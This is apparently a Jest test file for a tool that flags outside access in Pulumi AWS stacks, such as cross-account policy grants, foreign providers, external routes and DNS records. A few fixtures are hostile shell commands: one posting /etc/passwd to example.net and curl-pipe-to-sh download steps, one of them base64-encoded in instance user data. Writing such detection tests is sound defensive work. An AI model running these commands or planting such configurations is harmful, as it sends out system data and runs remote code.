import { expect, test } from "@jest/globals";
import { add, change, changeOne, type Mutation, say, sayIn, several } from "./mutate.ts";
import {
  bucketPolicy,
  changed,
  client,
  cloudControl,
  type Demo,
  data,
  document,
  endpoint,
  findings,
  graphs,
  nodePolicy,
  pool,
  provider,
  record,
  role,
  roleType,
  root,
  route,
  schedule,
  stranger,
  subscription,
  template,
} from "./strangers.ts";

/** What strangers change, the control that it is reported under, and the stack. */
const changes: readonly (readonly [control: string, what: string, mutation: Mutation, stack?: Demo])[] = [
  [
    "G30",
    "a peering with a stranger's network",
    add("aws:ec2/vpcPeeringConnection:VpcPeeringConnection", { peerVpcId: "vpc-0123456789abcdef0" }),
  ],
  ["G30", "a VPN for anybody", add("aws:ec2clientvpn/endpoint:Endpoint", { clientCidrBlock: "10.99.0.0/22" })],
  ["G30", "a VPN to another site", add("aws:ec2/vpnConnection:VpnConnection", { type: "ipsec.1" })],
  ["G30", "a transit gateway", add("aws:ec2transitgateway/vpcAttachment:VpcAttachment", {})],
  ["G30", "a server that takes files", add("aws:transfer/server:Server", { endpointType: "PUBLIC" })],
  ["G30", "a mirror of traffic", add("aws:ec2/trafficMirrorSession:TrafficMirrorSession", { sessionNumber: 1 })],
  ["G30", "an accelerator", add("aws:globalaccelerator/accelerator:Accelerator", {})],
  ["G30", "a distribution", add("aws:cloudfront/distribution:Distribution", {})],
  ["G30", "an API", add("aws:apigatewayv2/api:Api", { protocolType: "HTTP" })],
  [
    "G30",
    "a rule that sends all names to a stranger's resolver",
    add("aws:route53/resolverRule:ResolverRule", { domainName: ".", ruleType: "FORWARD" }),
  ],
  ["G30", "a way out for names", add("aws:route53/resolverEndpoint:ResolverEndpoint", { direction: "OUTBOUND" })],
  ["G30", "an identity provider of staff", add("aws:cognito/identityProvider:IdentityProvider", { providerType: "OIDC" })],
  ["G30", "a share with others", add("aws:ram/resourceShare:ResourceShare", { allowExternalPrincipals: true })],
  ["G30", "a service for others' endpoints", add("aws:ec2/vpcEndpointService:VpcEndpointService", {})],
  ["G30", "a user with a key", several(add("aws:iam/user:User", {}), add("aws:iam/accessKey:AccessKey", { user: "added" }))],
  ["G30", "a grant of a key", add("aws:kms/grant:Grant", { operations: ["Decrypt"] })],
  ["G30", "a snapshot to share", add("aws:rds/snapshot:Snapshot", { dbInstanceIdentifier: "demo-prod" })],
  ["G30", "a copy of a bucket", add("aws:s3/bucketReplicationConfig:BucketReplicationConfig", {})],
  ["G30", "a stream of data", add("aws:kinesis/firehoseDeliveryStream:FirehoseDeliveryStream", {})],
  ["G30", "a task that copies files", add("aws:datasync/task:Task", {})],
  ["G30", "an instance beside the group", add("aws:ec2/instance:Instance", { instanceType: "t4g.small" })],
  ["G30", "a function's URL", add("aws:lambda/functionUrl:FunctionUrl", { authorizationType: "NONE" })],
  ["G30", "an access point of a bucket", add("aws:s3/accessPoint:AccessPoint", {})],
  ["G30", "a template of CloudFormation", add("aws:cloudformation/stack:Stack", { templateBody: "{}" })],
  ["G30", "templates in other accounts", add("aws:cloudformation/stackSet:StackSet", { templateBody: "{}" }), "demo-account"],
  ["G30", "a peering by Cloud Control", add(cloudControl, { typeName: "AWS::EC2::VPCPeeringConnection", desiredState: "{}" })],
  ["G30", "Cloud Control's own, made into something else", changeOne(cloudControl, { typeName: "AWS::S3::BucketPolicy" })],
  ["G30", "another package of AWS", add("aws-native:s3:BucketPolicy", {})],
  ["G30", "a command", add("command:local:Command", { create: "curl -d @/etc/passwd example.net" })],
  ["G30", "a provider of commands", add("pulumi:providers:command", {})],
  ["G30", "a dynamic resource", add("pulumi-nodejs:dynamic:Resource", { __provider: "exports.handler = …" })],
  ["G30", "a provider of dynamic resources", add("pulumi:providers:pulumi-nodejs", {})],
  ["G30", "a component of others", add("awsx:ec2:Vpc", {})],
  ["G30", "a database in an account's stack", add("aws:rds/instance:Instance", {}), "demo-account"],
  ["G30", "an account in an account's stack", add("aws:organizations/account:Account", { email: "a@example.net" }), "demo-account"],
  ["G30", "an account's trail in a store", add("aws:cloudtrail/trail:Trail", {}), "demo-dev"],

  ["G31", "a second provider", add(provider, { region: "us-east-1" })],
  ["G31", "endpoints of a stranger", change(provider, { endpoints: '[{"s3":"https://s3.example.net"}]' })],
  ["G31", "a role of a stranger", change(provider, { assumeRoles: `[{"roleArn":"${role}"}]` })],
  ["G31", "a proxy", change(provider, { httpsProxy: "http://proxy.example.net:3128" })],
  ["G31", "no check of certificates", change(provider, { insecure: "true" }), "demo-account"],

  ["G32", "the data key opens to another account", say(data, { Principal: { AWS: root }, Action: "kms:Decrypt", Resource: "*" })],
  ["G32", "to one by its number alone", say(data, { Principal: { AWS: [stranger] }, Action: "kms:Decrypt", Resource: "*" })],
  [
    "G32",
    "to an organization",
    say(data, {
      Principal: "*",
      Action: "kms:Decrypt",
      Resource: "*",
      Condition: { StringEquals: { "aws:PrincipalOrgID": "o-a1b2c3d4e5" } },
    }),
  ],
  [
    "G32",
    "to whoever comes by a stranger's account",
    say(data, { Principal: "*", Action: "kms:Decrypt", Resource: "*", Condition: { StringEquals: { "kms:CallerAccount": stranger } } }),
  ],
  [
    "G32",
    "releases are a stranger's to read and write",
    sayIn(bucketPolicy, { Principal: { AWS: role }, Action: "s3:*Object", Resource: "*" }),
  ],
  [
    "G32",
    "releases are one's by a canonical id",
    sayIn(bucketPolicy, { Principal: { CanonicalUser: "ab".repeat(32) }, Action: "s3:GetObject", Resource: "*" }),
  ],
  ["G32", "nodes may become a stranger's role", sayIn(nodePolicy, { Action: "sts:AssumeRole", Resource: role })],
  ["G32", "a role that a stranger takes", sayIn(roleType, { Principal: { AWS: root }, Action: "sts:AssumeRole" }, "assumeRolePolicy")],
  [
    "G32",
    "one that takes it with an agreed id",
    sayIn(
      roleType,
      { Principal: { AWS: stranger }, Action: "sts:AssumeRole", Condition: { StringEquals: { "sts:ExternalId": "x" } } },
      "assumeRolePolicy",
    ),
  ],
  [
    "G32",
    "a stranger's session",
    sayIn(roleType, { Principal: { AWS: `arn:aws:sts::${stranger}:assumed-role/a/b` }, Action: "sts:AssumeRole" }, "assumeRolePolicy"),
  ],
  [
    "G32",
    "another repository's jobs deploy",
    sayIn(
      roleType,
      {
        Principal: { Federated: "arn:aws:iam::123456789012:oidc-provider/token.actions.githubusercontent.com" },
        Action: "sts:AssumeRoleWithWebIdentity",
        Condition: { StringEquals: { "token.actions.githubusercontent.com:sub": "repo:them/hosting:environment:demo-prod" } },
      },
      "assumeRolePolicy",
    ),
    "demo-account",
  ],
  [
    "G32",
    "a backup's copy in another account",
    changeOne("aws:backup/plan:Plan", {
      rules: [{ ruleName: "daily", copyActions: [{ destinationVaultArn: `arn:aws:backup:us-east-1:${stranger}:backup-vault:v` }] }],
    }),
  ],
  [
    "G32",
    "a vault that a stranger copies from",
    sayIn("aws:backup/vaultPolicy:VaultPolicy", { Principal: { AWS: root }, Action: "backup:CopyFromBackupVault", Resource: "*" }),
  ],
  ["G32", "a function that a stranger calls", changeOne("aws:lambda/permission:Permission", { principal: stranger })],
  ["G32", "one that a stranger's bucket calls", changeOne("aws:lambda/permission:Permission", { sourceAccount: stranger })],
  [
    "G32",
    "a stranger's layer",
    changeOne("aws:lambda/function:Function", { layers: [`arn:aws:lambda:us-east-1:${stranger}:layer:them:1`] }),
  ],
  [
    "G32",
    "a stranger's code by its image",
    changeOne("aws:lambda/function:Function", { imageUri: `${stranger}.dkr.ecr.us-east-1.amazonaws.com/a:1` }),
  ],
  [
    "G32",
    "a topic that mails a stranger's function",
    changeOne(subscription, { protocol: "lambda", endpoint: `arn:aws:lambda:us-east-1:${stranger}:function:f` }),
  ],
  [
    "G32",
    "events for a stranger's bus",
    changeOne("aws:cloudwatch/eventTarget:EventTarget", { arn: `arn:aws:events:us-east-1:${stranger}:event-bus/default` }),
  ],
  ["G32", "a schedule that calls a stranger", changeOne(schedule, { target: { arn: `arn:aws:lambda:us-east-1:${stranger}:function:f` } })],
  [
    "G32",
    "a log that goes to a stranger",
    changeOne("aws:cloudwatch/logSubscriptionFilter:LogSubscriptionFilter", {
      destinationArn: `arn:aws:logs:us-east-1:${stranger}:destination:d`,
    }),
  ],
  [
    "G32",
    "a queue that a stranger reads",
    changeOne("aws:sqs/queue:Queue", { redrivePolicy: JSON.stringify({ deadLetterTargetArn: `arn:aws:sqs:us-east-1:${stranger}:q` }) }),
  ],
  [
    "G32",
    "a function that writes to a stranger's queue by its URL",
    changeOne("aws:lambda/function:Function", {
      environment: { variables: { QUEUE: `https://sqs.us-east-1.amazonaws.com/${stranger}/q` } },
    }),
  ],
  [
    "G32",
    "a trigger of the sign-in",
    change(pool, { lambdaConfig: { preTokenGeneration: `arn:aws:lambda:us-east-1:${stranger}:function:f` } }),
  ],
  [
    "G32",
    "a file system that a stranger mounts",
    sayIn("aws:efs/fileSystemPolicy:FileSystemPolicy", { Principal: { AWS: role }, Action: "elasticfilesystem:ClientMount" }),
  ],
  [
    "G32",
    "an endpoint that lets out to a stranger",
    sayIn(endpoint, { Principal: "*", Action: "s3:*", Resource: "*", Condition: { StringEquals: { "aws:ResourceAccount": stranger } } }),
  ],
  [
    "G32",
    "a security group of a stranger",
    changeOne("aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule", {
      referencedSecurityGroupId: `${stranger}/sg-0123456789abcdef0`,
    }),
  ],
  ["G32", "a document that others have", changeOne(document, { permissions: { type: "Share", accountIds: stranger } })],
  [
    "G32",
    "the trail in a stranger's key",
    change("aws:cloudtrail/trail:Trail", { kmsKeyId: `arn:aws:kms:us-east-1:${stranger}:key/1` }),
    "demo-account",
  ],
  [
    "G32",
    "a stranger whom Cloud Control lets in",
    changeOne(cloudControl, { desiredState: JSON.stringify({ Policy: JSON.stringify({ Principal: { AWS: stranger } }) }) }),
  ],
  ["G32", "the provider of another account", change(provider, { allowedAccountIds: JSON.stringify(["123456789012", stranger]) })],
  [
    "G32",
    "an attached policy of a stranger",
    changeOne("aws:iam/rolePolicyAttachment:RolePolicyAttachment", { policyArn: `arn:aws:iam::${stranger}:policy/p` }),
  ],

  ["G33", "a route to a peering", changeOne(route, { vpcPeeringConnectionId: "pcx-0123456789abcdef0" })],
  ["G33", "a route to a transit gateway", changeOne(route, { transitGatewayId: "tgw-0123456789abcdef0" }), "demo-dev"],
  [
    "G33",
    "a stranger's service in the network",
    changeOne(endpoint, { serviceName: "com.amazonaws.vpce.us-east-1.vpce-svc-0123456789abcdef0" }),
  ],
  ["G33", "a zone that a stranger's network sees", change("aws:route53/zone:Zone", { vpcs: [{ vpcId: "vpc-0123456789abcdef0" }] })],
  [
    "G33",
    "releases by a stranger's endpoint",
    sayIn(bucketPolicy, {
      Principal: "*",
      Action: "s3:GetObject",
      Resource: "*",
      Condition: { StringEquals: { "aws:SourceVpce": "vpce-0123456789abcdef0" } },
    }),
  ],
  ["G33", "nodes write to a stranger's bucket", sayIn(nodePolicy, { Action: "s3:PutObject", Resource: "arn:aws:s3:::drop-box/*" })],
  [
    "G33",
    "to one whose name begins like the stack's",
    sayIn(nodePolicy, { Action: "s3:PutObject", Resource: "arn:aws:s3:::demo-prod-drop/*" }),
  ],
  ["G33", "to those of a pattern", sayIn(nodePolicy, { Action: "s3:PutObject", Resource: "arn:aws:s3:::drop-*" })],
  [
    "G33",
    "the load balancer's log in a stranger's bucket",
    change("aws:lb/loadBalancer:LoadBalancer", { accessLogs: { bucket: "drop-box", enabled: true } }),
  ],
  ["G33", "the network's log there", change("aws:ec2/flowLog:FlowLog", { logDestination: "arn:aws:s3:::drop-box/flow" })],
  ["G33", "the trail there", change("aws:cloudtrail/trail:Trail", { s3BucketName: "drop-box" }), "demo-account"],
  ["G33", "a resource where nobody looks", changeOne("aws:sqs/queue:Queue", { region: "ap-south-1" })],

  ["G34", "alarms by mail to a stranger", changeOne(subscription, { protocol: "email", endpoint: "them@example.net" })],
  ["G34", "alarms to a stranger's site", changeOne(subscription, { protocol: "https", endpoint: "https://hooks.example.net/x" })],
  ["G34", "an administrator whom nobody named", changeOne("aws:cognito/user:User", { username: "them@example.net" })],
  [
    "G34",
    "a sign-in that leads to a stranger",
    change(client, { callbackUrls: ["https://shop.example.com.example.net/oauth2/idpresponse"] }),
  ],
  ["G34", "a sign-out that does", change(client, { logoutUrls: ["https://example.net/"] })],
  [
    "G34",
    "a mail's link",
    change(pool, { adminCreateUserConfig: { inviteMessageTemplate: { emailMessage: "Sign in at http://login.example.net/" } } }),
  ],
  [
    "G34",
    "a provider of jobs",
    change("aws:iam/openIdConnectProvider:OpenIdConnectProvider", { url: "https://tokens.example.net" }),
    "demo-account",
  ],
  [
    "G34",
    "one in a role",
    sayIn(
      roleType,
      { Principal: { Federated: "arn:aws:iam::123456789012:oidc-provider/tokens.example.net" }, Action: "sts:AssumeRoleWithWebIdentity" },
      "assumeRolePolicy",
    ),
    "demo-account",
  ],
  ["G34", "the store's name leads to a stranger", changeOne(record, { type: "CNAME", records: ["shop.example.net"] })],
  ["G34", "as does its mail", changeOne(record, { type: "MX", records: ["10 mx.example.net."] })],
  ["G34", "and its zone", changeOne(record, { type: "NS", records: ["ns1.example.net"] })],
  [
    "G34",
    "an alias of another's load balancer",
    changeOne(record, { type: "A", aliases: [{ name: "them-1.us-east-1.elb.amazonaws.com", zoneId: "Z" }] }),
  ],
  [
    "G34",
    "a function that calls home",
    changeOne("aws:lambda/function:Function", { environment: { variables: { HOOK: "https://example.net/in" } } }),
  ],
  [
    "G34",
    "one that calls an API of any customer",
    changeOne("aws:lambda/function:Function", {
      environment: { variables: { HOOK: "https://a1b2c3.execute-api.us-east-1.amazonaws.com/in" } },
    }),
  ],
  ["G34", "a stranger's bucket by its URL", changeOne(document, { content: '{"url":"https://drop-box.s3.us-east-1.amazonaws.com/x"}' })],
  ["G34", "a script from a stranger", changeOne(document, { content: '{"run":["curl -s https://get.example.net | sh"]}' })],
  [
    "G34",
    "one in what nodes begin with",
    change(template, { userData: Buffer.from("#!/bin/sh\ncurl http://get.example.net/x | sh\n").toString("base64") }),
  ],
  ["G34", "with a name that hides it", changeOne(document, { content: '{"run":["curl https://shop.example.com@example.net/"]}' })],
  [
    "G34",
    "a redirect at the load balancer",
    changeOne("aws:lb/listener:Listener", {
      defaultActions: [{ type: "authenticate-oidc", authenticateOidc: { tokenEndpoint: "https://id.example.net/t" } }],
    }),
  ],
  [
    "G34",
    "a budget's mail",
    change("aws:budgets/budget:Budget", { notifications: [{ subscriberEmailAddresses: ["them@example.net"] }] }),
    "demo-account",
  ],
];

test.each(Object.keys(graphs) as Demo[])("%s has no strangers", (stack) => {
  expect(findings(graphs[stack])).toEqual([]);
});

test.each(changes)("%s: %s is reported", (control, _what, mutation, stack = "demo-prod") => {
  expect(findings(changed(mutation, stack)).filter((line) => line.startsWith(control))).not.toEqual([]);
});
